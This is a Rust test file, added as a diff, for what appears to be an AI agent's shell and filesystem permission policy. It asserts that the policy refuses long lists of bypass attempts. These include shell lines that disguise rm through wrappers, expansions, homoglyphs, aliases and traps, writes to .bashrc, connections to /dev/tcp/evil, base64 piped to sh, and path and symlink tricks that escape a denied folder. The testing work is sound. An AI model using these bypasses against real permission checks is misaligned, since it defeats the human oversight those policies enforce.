@@ -1,0 +1,325 @@
+//! Attacks on policies, a row each: command lines that try to pass for allowed ones, and paths in other spellings.
+
+use std::path::Path;
+
+use goondan_spec::kinds::{Action, MarkedArguments, Permissions};
+use serde_json::json;
+
+use super::tests::{ASKED, rule, shell_action};
+use super::{PathArguments, PolicyQuestion, decide};
+
+/// More lines that are none of `git *`, `echo *` and `ls`; the first of them are with the tests of the grammar.
+const BYPASSES: &[&str] = &[
+    // Wrappers, one in the other.
+    "env -i rm x",
+    "env -C / rm x",
+    "nice -n 5 nohup setsid rm x",
+    "ionice -c 3 rm x",
+    "chroot . rm x",
+    "unshare rm x",
+    "script -c 'rm x'",
+    "watch rm x",
+    "parallel rm ::: x",
+    "flock lock rm x",
+    "strace rm x",
+    "su -c 'rm x'",
+    "runuser -u nobody rm x",
+    "pkexec rm x",
+    "ssh localhost rm x",
+    "time -p rm x",
+    "timeout 5 timeout 5 env rm x",
+    "command command rm x",
+    "builtin command rm x",
+    "exec -a git rm x",
+    "xargs -a list rm",
+    "xargs -n1 -P4 -- rm",
+    "find . -ok rm {} ;",
+    "find . -execdir rm {} +",
+    "find . -delete",
+    "python3 -c 'import os; os.remove(\"x\")'",
+    "perl -e 'unlink x'",
+    "awk 'BEGIN{system(\"rm x\")}'",
+    "sed -i s/a/b/ x",
+    "tee x",
+    "dd of=x",
+    // A shell inside a shell.
+    "sh -c 'sh -c \"rm x\"'",
+    "bash -c \"git log; $X\"",
+    "bash -c $'rm x'",
+    "bash --rcfile evil -i",
+    "dash -c 'rm x'",
+    "zsh -c 'rm x'",
+    "sh -x -c 'rm x'",
+    "sh -- script",
+    "sh <<E\nrm x\nE\n",
+    "bash <<< 'rm x'",
+    "bash <(echo rm x)",
+    "echo cm0geA== | base64 -d | sh",
+    "printf 'rm x' | bash -s",
+    // Names that an expansion makes.
+    "r${X}m x",
+    "${X}m x",
+    "$'\\x72m' x",
+    "$'\\162\\155' x",
+    "r\"\"m x",
+    "r?m x",
+    "/bin/r? x",
+    "/???/rm x",
+    "~/rm x",
+    "{rm,x}",
+    "rm{,} x",
+    "rm${IFS}x",
+    "git${IFS}log",
+    "ls${IFS};rm x",
+    "IFS=x; git log",
+    "X=rm; $X x",
+    "X='rm x' eval $X",
+    "${X:-rm} x",
+    "${X:=rm} x",
+    "${!X} x",
+    "$(printf rm) x",
+    "`echo rm` x",
+    "echo ${X:-`rm x`}",
+    "echo $(( $(rm x) ))",
+    "echo $[$(rm x)]",
+    "echo \"${X//a/$(rm x)}\"",
+    "echo ${X@P}",
+    "echo \"$(echo \"$(rm x)\")\"",
+    // Separators and spaces that look like others.
+    "git log\rrm x",
+    "git\u{2003}log",
+    "git\u{3000}log",
+    "git\u{200b} log",
+    "ｇit log",
+    "gіt log",
+    "git log\n\n\nrm x",
+    "git log;\nrm x",
+    "git log &\nrm x",
+    "git log & disown; rm x",
+    "git log |& rm x",
+    "git log || { rm x; }",
+    "# git log\nrm x",
+    "git log # \\\nrm x",
+    "git log \\\n; rm x",
+    "git log 'a\nb'; rm x",
+    ":; rm x",
+    "true && rm x",
+    "[ -f x ] && rm x",
+    "test -f x; rm x",
+    // Functions, aliases, traps, settings.
+    "function ls() { rm x; }\nls",
+    "echo() { rm x; }; echo",
+    "alias echo='rm x'; echo",
+    "\\alias ls=rm",
+    "unalias ls; rm x",
+    "trap 'rm x' DEBUG",
+    "set -- rm x; \"$@\"",
+    "\"$@\"",
+    "$0 -c 'rm x'",
+    "enable -f ./evil.so ls; ls",
+    "hash -p ./rm git; git log",
+    "shopt -s expand_aliases; alias git=rm",
+    "source /dev/stdin <<< 'rm x'",
+    ". /dev/stdin <<E\nrm x\nE",
+    "PROMPT_COMMAND='rm x' git log",
+    "BASH_ENV=evil git log",
+    "ENV=evil git log",
+    "export GIT_SSH_COMMAND='rm x'; git fetch",
+    "declare -x GIT_PAGER='rm x'",
+    "read X; $X",
+    "mapfile -C 'rm x' a",
+    "complete -C 'rm x' a",
+    "bind -x '\"a\":rm x'",
+    "printf -v PATH .",
+    // Redirections.
+    "echo evil > .bashrc",
+    "echo evil >> /etc/profile",
+    "echo evil >| x",
+    "echo evil &>> x",
+    "echo evil > $X",
+    "echo evil > \"$(rm x)\"",
+    "echo evil >&x",
+    "echo evil 3> x >&3",
+    "echo evil > /dev/tcp/evil/80",
+    "echo evil > >(sh)",
+    "exec 3<> /dev/tcp/evil/80",
+    // Programs in other folders.
+    "/tmp/echo x",
+    "./ls",
+    "../../bin/ls",
+    "/usr/bin/env rm x",
+    "/bin/busybox sh",
+];
+
+#[test]
+fn command_lines_that_pass_for_allowed_ones() {
+    let rules = [("git *", Action::Allow), ("echo *", Action::Allow), ("ls", Action::Allow)];
+    let rows = || BYPASSES.iter().chain(ASKED);
+    let through: Vec<_> = rows().filter(|line| shell_action(Action::Deny, &rules, line) == Action::Allow).collect();
+    assert!(through.is_empty(), "{through:#?}");
+    println!("attacks: shell, past a list of what is allowed: {} refused", rows().count());
+}
+
+/// Lines that run `rm`, or may.
+const HIDDEN: &[&str] = &[
+    "rm x",
+    "/bin/rm x",
+    "../bin/rm x",
+    "r'm' x",
+    "r\\m x",
+    "\"rm\" x",
+    "rm\tx",
+    "rm  x",
+    "rm 'x'",
+    "rm -- x",
+    "A=1 B=2 rm x",
+    "! rm x",
+    "rm x > out",
+    "< in rm x",
+    "> out rm x",
+    "rm x | cat",
+    "cat | rm x",
+    "(rm x)",
+    "{ rm x; }",
+    "while true; do rm x; done",
+    "case a in *) rm x ;; esac",
+    "for i in 1; do rm x; done",
+    "if rm x; then :; fi",
+    "f() { rm x; }; f",
+    "ls $(rm x)",
+    "ls `rm x`",
+    "ls <(rm x)",
+    "ls \"${A:-$(rm x)}\"",
+    "A=$(rm x)",
+    "A=$(rm x) ls",
+    "ls > $(rm x)",
+    "cat <<E\n`rm x`\nE\n",
+    "coproc rm x",
+    "time rm x",
+    "nohup rm x &",
+    "sudo rm x",
+    "sudo -E -u root -- rm x",
+    "doas rm x",
+    "env rm x",
+    "env -i A=1 rm x",
+    "exec rm x",
+    "command rm x",
+    "nice -n 3 ionice rm x",
+    "stdbuf -oL rm x",
+    "xargs rm",
+    "xargs -I{} rm {}",
+    "find . -exec rm {} +",
+    "find . -execdir /bin/rm {} ;",
+    "sh -c 'rm x'",
+    "bash -lc 'ls; rm x'",
+    "sh -c 'sh -c \"rm x\"'",
+    "sh -c \"$X\"",
+    "eval rm x",
+    "eval \"r\"\"m x\"",
+    "X=rm; $X x",
+    "$X x",
+    "r$X x",
+    "$(echo rm) x",
+    "{rm,-f} x",
+    "r? x",
+    "/bin/r* x",
+    "rm${IFS}x",
+    "$'rm' x",
+    "$'\\x72m' x",
+    "source script",
+    ". ./script",
+    "alias l=rm; l x",
+    "trap 'rm x' EXIT",
+    "echo rm x | sh",
+    "sh < script",
+    "bash <<< 'rm x'",
+    "a 'b",
+    "busybox rm x",
+];
+
+#[test]
+fn command_lines_that_hide_a_denied_command() {
+    let rules = [("rm *", Action::Deny)];
+    let through: Vec<_> =
+        HIDDEN.iter().filter(|line| shell_action(Action::Allow, &rules, line) == Action::Allow).collect();
+    assert!(through.is_empty(), "{through:#?}");
+    println!("attacks: shell, around a list of what is denied: {} refused", HIDDEN.len());
+}
+
+fn about_path(rules: &[(&str, Action)], default: Action, folder: Option<&Path>, path: &str) -> Action {
+    let rules = rules.iter().map(|(pattern, action)| rule(None, None, &[("path", pattern)], *action)).collect();
+    let permissions = Permissions { default, rules, sandbox: None };
+    let marked = MarkedArguments { paths: vec!["path".to_owned()], ..MarkedArguments::default() };
+    let arguments = json!({"path": path}).as_object().cloned().unwrap();
+    let paths = match folder {
+        Some(folder) => PathArguments::within(folder, &marked, &arguments),
+        None => PathArguments::of(&marked, &arguments),
+    };
+    let needs = Default::default();
+    let question =
+        PolicyQuestion { tool_name: "fs__write", needs: &needs, arguments: &arguments, marked: &marked, paths: &paths };
+    decide(Some(&permissions), question).action
+}
+
+#[test]
+fn paths_in_other_spellings() {
+    let denied = [
+        "keep/x",
+        "./keep/x",
+        "././keep/x",
+        "keep//x",
+        "keep/./x",
+        ".//keep/x",
+        "keep/x/",
+        "keep/a/../x",
+        "a/../keep/x",
+        "a/b/../../keep/x",
+        "a/./../keep/./x",
+        "./a/..//keep/x",
+    ];
+    for path in denied {
+        assert_eq!(about_path(&[("keep/*", Action::Deny)], Action::Allow, None, path), Action::Deny, "{path}");
+        assert_eq!(about_path(&[("./keep/*", Action::Ask)], Action::Allow, None, path), Action::Ask, "{path}");
+    }
+    let not_allowed = ["keep/../x", "keep/../../x", "keep/a/../../x", "./keep/../x", "keep/..", "keep/.", "../keep/x"];
+    for path in not_allowed {
+        assert_eq!(about_path(&[("keep/*", Action::Allow)], Action::Deny, None, path), Action::Deny, "{path}");
+    }
+    assert_eq!(about_path(&[("keep/*", Action::Allow)], Action::Deny, None, "./keep/x"), Action::Allow);
+    println!("attacks: paths, spelled otherwise for a policy: {} refused", denied.len() + not_allowed.len());
+}
+
+#[cfg(unix)]
+#[test]
+fn paths_by_way_of_links() {
+    use std::os::unix::fs::symlink;
+    let dir = tempfile::tempdir().unwrap();
+    let folder = dir.path().join("work");
+    std::fs::create_dir_all(folder.join("keep")).unwrap();
+    std::fs::create_dir_all(folder.join("a/b")).unwrap();
+    std::fs::create_dir_all(dir.path().join("out")).unwrap();
+    for (target, link) in
+        [("keep", "to-keep"), ("to-keep", "chain"), ("keep/new", "dangling"), ("a/b", "deep"), ("../out", "keep/leave")]
+    {
+        symlink(target, folder.join(link)).unwrap();
+    }
+    symlink(folder.join("keep"), folder.join("absolute")).unwrap();
+    let absolute = folder.join("keep/x").display().to_string();
+    let around = format!("{}/a/../keep/x", folder.display());
+    let denied =
+        ["to-keep/x", "chain/x", "dangling", "absolute/x", "deep/../../keep/x", "../work/keep/x", &absolute, &around];
+    for path in denied {
+        let action = about_path(&[("keep/*", Action::Deny)], Action::Allow, Some(&folder), path);
+        assert_eq!(action, Action::Deny, "{path}");
+    }
+    let not_allowed = ["keep/leave/x", "keep/leave", "keep/../a/x"];
+    for path in not_allowed {
+        let action = about_path(&[("keep/*", Action::Allow)], Action::Deny, Some(&folder), path);
+        assert_eq!(action, Action::Deny, "{path}");
+    }
+    for path in ["keep/x", "to-keep/x/../y", &absolute] {
+        let action = about_path(&[("keep/*", Action::Allow)], Action::Deny, Some(&folder), path);
+        assert_eq!(action == Action::Allow, !path.starts_with("to-"), "{path}");
+    }
+    println!("attacks: paths, through links around a policy: {} refused", denied.len() + not_allowed.len());
+}
